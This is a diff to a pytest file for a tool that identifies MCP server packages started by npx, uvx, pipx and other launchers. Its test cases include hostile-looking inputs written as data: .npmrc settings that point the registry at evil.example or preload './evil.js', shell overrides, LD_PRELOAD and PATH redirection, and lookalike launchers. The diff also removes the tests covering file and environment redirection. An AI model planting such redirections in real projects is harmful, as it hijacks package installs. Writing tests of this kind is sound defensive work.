@@ -1,5 +1,4 @@
 import re
-from pathlib import Path
 from typing import Any
 
 import pytest
@@ -16,8 +15,8 @@ from packetgate.tools.risk.registry import (
     Registry,
     ToolLabel,
     definition_digest,
-    launched_package,
     load_registry,
+    requested_launch,
 )
 from packetgate.toolsets.servers.specs import spec_of
 
@@ -25,8 +24,9 @@ NAME = "npm:@modelcontextprotocol/server-memory"
 SCHEMA = {"type": "object", "properties": {"query": {"type": "string"}}, "required": ["query"]}
 
 
-def launched(*command: str, folder: Path = Path("/nowhere"), **env: str) -> LaunchedPackage | None:
-    return launched_package({"command": command[0], "args": [*command[1:]], "env": env}, folder)
+def launched(*command: str) -> LaunchedPackage | None:
+    launch = requested_launch(command)
+    return launch.package if launch else None
 
 
 @pytest.mark.parametrize(
@@ -49,8 +49,6 @@ def launched(*command: str, folder: Path = Path("/nowhere"), **env: str) -> Laun
 )
 def test_a_package_that_a_launcher_starts_is_recognized(command: str, package: str, version: str) -> None:
     parts = command.replace("Program Files", "Program_Files").split()
-    is_windows = "\\" in command
-    parts[0] = parts[0].replace("\\", "/").replace("C:", "") if is_windows else parts[0]
     assert launched(*parts) == LaunchedPackage(package, version)
 
 
@@ -62,9 +60,6 @@ def test_a_package_that_a_launcher_starts_is_recognized(command: str, package: s
         "python -m mcp_server_git",
         "sh -c npx",
         "npx-evil @modelcontextprotocol/server-memory",
-        "./npx @modelcontextprotocol/server-memory",
-        "tools/npx @modelcontextprotocol/server-memory",
-        "/nowhere/npx @modelcontextprotocol/server-memory",
         "npx",
         "npx ./server-memory",
         "npx -y --registry https://evil.example @modelcontextprotocol/server-memory",
@@ -104,65 +99,6 @@ def test_a_package_that_a_launcher_starts_is_recognized(command: str, package: s
 def test_no_other_start_is_a_known_package(command: str) -> None:
     found = launched(*command.split())
     assert found is None or found.package not in {NAME, "pypi:mcp-server-git"}
-
-
-@pytest.mark.parametrize(
-    "variable",
-    [
-        *("npm_config_registry", "NPM_CONFIG_USERCONFIG", "UV_INDEX_URL", "UV_DEFAULT_INDEX", "PIP_INDEX_URL", "PATH"),
-        *("NODE_OPTIONS", "NODE_PATH", "PYTHONPATH", "LD_PRELOAD", "HOME", "XDG_CONFIG_HOME", "HTTPS_PROXY"),
-    ],
-)
-def test_variables_that_redirect_a_launcher_make_a_server_unknown(variable: str) -> None:
-    assert launched("npx", "@modelcontextprotocol/server-memory", MEMORY_FILE_PATH="x", HOME_TOKEN="x") is not None
-    assert launched("npx", "@modelcontextprotocol/server-memory", **{variable: "x"}) is None
-    assert launched("uvx", "mcp-server-git", **{variable: "x"}) is None
-
-
-@pytest.mark.parametrize(
-    ("file", "text"),
-    [
-        (".npmrc", "registry=https://evil.example"),
-        (".npmrc", "@modelcontextprotocol:registry=https://evil.example"),
-        ("node_modules/@modelcontextprotocol/server-memory/package.json", "{}"),
-        ("node_modules/.bin/@modelcontextprotocol/server-memory", ""),
-        ("package.json", '{"name" : "@modelcontextprotocol/server-memory"}'),
-        ("package.json", '{"n\\u0061me": "@modelcontextprotocol\\/server-memory"}'),
-        ("node_modules/.bin/server-memory", ""),
-        (".npmrc", "fund=false\nnode-options = --require=./evil.js"),
-        (".npmrc", "script-shell=./evil.sh"),
-        (".npmrc", "cache=./evil"),
-        (".npmrc", '"regis\\u0074ry"=https://evil.example'),
-    ],
-)
-def test_files_that_redirect_npx_make_a_server_unknown(file: str, text: str, tmp_path: Path) -> None:
-    folder = tmp_path / "inner"
-    folder.mkdir()
-    command = ("npx", "-y", "@modelcontextprotocol/server-memory")
-    assert launched(*command, folder=folder) is not None
-    (tmp_path / file).parent.mkdir(parents=True, exist_ok=True)
-    (tmp_path / file).write_text(text)
-    assert launched(*command, folder=folder) is None
-
-
-@pytest.mark.parametrize(
-    ("command", "file"),
-    [
-        ("bunx @modelcontextprotocol/server-memory", "bunfig.toml"),
-        ("bunx @modelcontextprotocol/server-memory", ".env"),
-        ("pnpm dlx @modelcontextprotocol/server-memory", "pnpm-workspace.yaml"),
-        ("pipx run mcp-server-git", "inner/mcp-server-git"),
-        ("pipx run mcp-server-git", "__pypackages__/x"),
-    ],
-)
-def test_files_that_redirect_other_launchers_make_a_server_unknown(command: str, file: str, tmp_path: Path) -> None:
-    folder = tmp_path / "inner"
-    folder.mkdir()
-    (tmp_path / ".npmrc").write_text("; a comment\nfund = false\nsave-exact=true\n")
-    assert launched(*command.split(), folder=folder) is not None
-    (tmp_path / file).parent.mkdir(exist_ok=True)
-    (tmp_path / file).write_text("")
-    assert launched(*command.split(), folder=folder) is None
 
 
 def test_the_digest_covers_all_but_prose() -> None:
@@ -265,6 +201,9 @@ def test_every_entry_of_the_shipped_registry_is_well_formed() -> None:
         assert server.package.partition(":")[0] in {"npm", "pypi"}
         assert server.source
         assert SpecifierSet(server.versions)
+        assert not any(
+            name.startswith(("npm_", "NPM_", "NODE_", "UV_", "PIP")) or name == "PATH" for name in server.variables
+        )
         assert all((label.undo or " ").split(" ")[0] in {"", *server.tools} for label in server.tools.values()), (
             server.package
         )
